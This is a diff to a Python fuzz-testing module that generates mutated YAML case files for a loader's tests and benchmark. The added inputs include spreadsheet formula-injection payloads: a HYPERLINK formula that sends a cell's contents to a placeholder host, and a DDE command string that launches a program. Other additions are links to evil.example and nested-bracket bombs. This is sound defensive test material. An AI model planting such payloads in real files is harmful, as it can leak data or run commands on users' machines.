@@ -1,10 +1,12 @@
 """Mutated and adversarial case files, shared by the fuzz tests and the parse-time benchmark.
 
-Each mutated file starts from one of the real cases in ``cases/`` and gets 1-3 random mutations
-(fixed seed, so failures reproduce): byte flips, deleted/duplicated/swapped lines, indentation
-changes, full-width punctuation, deep nesting, huge and non-finite numbers, odd Unicode (bidi,
-fillers, controls, emoji, line separators), truncation, CRLF/CR/BOM, YAML features (anchors, tags,
-documents). The adversarial files are pathological inputs just under the size cap.
+Each mutated file gets 1-3 random mutations (fixed seed, so failures reproduce) to one of the real
+cases in ``cases/``: byte flips, deleted/duplicated/swapped lines, indentation changes, full-width
+punctuation, deep nesting, huge and non-finite numbers, odd Unicode (bidi, fillers, controls,
+emoji, line separators), truncation, CRLF/CR/BOM, YAML features (anchors, tags, documents),
+and the attack round's kinds: a key indented into the block above, character references to
+invisible characters, nested-bracket bombs, spreadsheet formulas, huge lists, links in text.
+The adversarial files are pathological inputs just under the size cap.
 ``tests/casefile/test_fuzz.py`` checks what the loader says about them;
 ``benchmarks/bench_parse.py`` measures how long it takes.
 """
@@ -12,6 +14,7 @@ documents). The adversarial files are pathological inputs just under the size ca
 from __future__ import annotations
 
 import random
+import re
 from pathlib import Path
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -101,10 +104,50 @@ SCALARS = [
 ]
 
 
+REFERENCES = ["&#x202e;", "&#X202E;", "&#8203;", "&#0;", "&ZeroWidthSpace;", "&rlm;", "&#65279;", "&#x1D173;"]
+BRACKET_BOMBS = ["[" * 6000, "[^" * 2000, "([" * 2000, "[a](" * 1200, "[[a]" * 1000, "[a]: [" * 700]
+FORMULAS = [
+    '=HYPERLINK("h"&"ttp://x/?"&A2,"详情")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "  =1+1",
+    "\t=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+]
+LINKS = [
+    "[详情](https://evil.example/x)",
+    "<https://evil.example>",
+    "www.evil.example",
+    "https://evil.example",
+    "[a]: https://evil.example",
+    '<a href="https://evil.example">点此</a>',
+]
+BLOCK_KEYS = ("background", "practice", "results", "insights", "how_to")
+
+
+def _swallow(lines: list[str], rng: random.Random) -> None:
+    """Indent a top-level key that follows a block scalar, and its own lines, one step too far."""
+    starts = [
+        k
+        for k in range(1, len(lines))
+        if re.match(r"^[a-z_]+:", lines[k]) and any(lines[j].endswith(("|", "|-", ">")) for j in range(k))
+    ]
+    if not starts:
+        return
+    k = rng.choice(starts)
+    end = next((m for m in range(k + 1, len(lines)) if re.match(r"^[a-z_]+:", lines[m])), len(lines))
+    for m in range(k, end):
+        lines[m] = "  " + lines[m]
+
+
 def mutate(text: str, rng: random.Random) -> str:
     """One random mutation of a case file's text (the kinds listed in this module's docstring)."""
     lines = text.split("\n")
-    op = rng.randrange(20)
+    op = rng.randrange(26)
     i = rng.randrange(len(lines)) if lines else 0
     if op == 0 and text:
         data = bytearray(text.encode("utf-8", "surrogatepass"))
@@ -155,6 +198,32 @@ def mutate(text: str, rng: random.Random) -> str:
         lines.insert(i, "".join(chr(rng.randrange(0x20, 0x2FFFF)) for _ in range(rng.randint(1, 40))))
     elif op == 19 and lines:
         lines[i] = lines[i].replace('"', "", 1) if '"' in lines[i] else lines[i].replace(": ", ': "', 1)
+    elif op == 20:
+        _swallow(lines, rng)
+    elif op == 21 and lines:
+        k = rng.randrange(len(lines[i]) + 1)
+        lines[i] = lines[i][:k] + rng.choice(REFERENCES) + lines[i][k:]
+    elif op == 22:
+        blocks = [
+            k for k, line in enumerate(lines) if line.startswith("  ") and k and lines[k - 1].endswith("|")
+        ]
+        if blocks:
+            k = rng.choice(blocks)
+            lines[k] += rng.choice(BRACKET_BOMBS)
+    elif op == 23:
+        items = [k for k, line in enumerate(lines) if re.match(r"^  - [^:]+$", line)]
+        formula = rng.choice(FORMULAS).replace('"', "'")
+        if items:
+            lines[rng.choice(items)] = f'  - "{formula}"'
+        else:
+            lines.insert(i, f'organizations: ["{formula}"]')
+    elif op == 24:
+        key = rng.choice(["tags", "groups", "organizations", "related", "awards"])
+        count = rng.choice([11, 21, 500, 5000])
+        lines.insert(i, f"{key}: [" + ", ".join(f"t{n}" for n in range(count)) + "]")
+    elif op == 25 and lines:
+        k = rng.randrange(len(lines[i]) + 1)
+        lines[i] = lines[i][:k] + rng.choice(LINKS) + lines[i][k:]
     return "\n".join(lines)
 
 
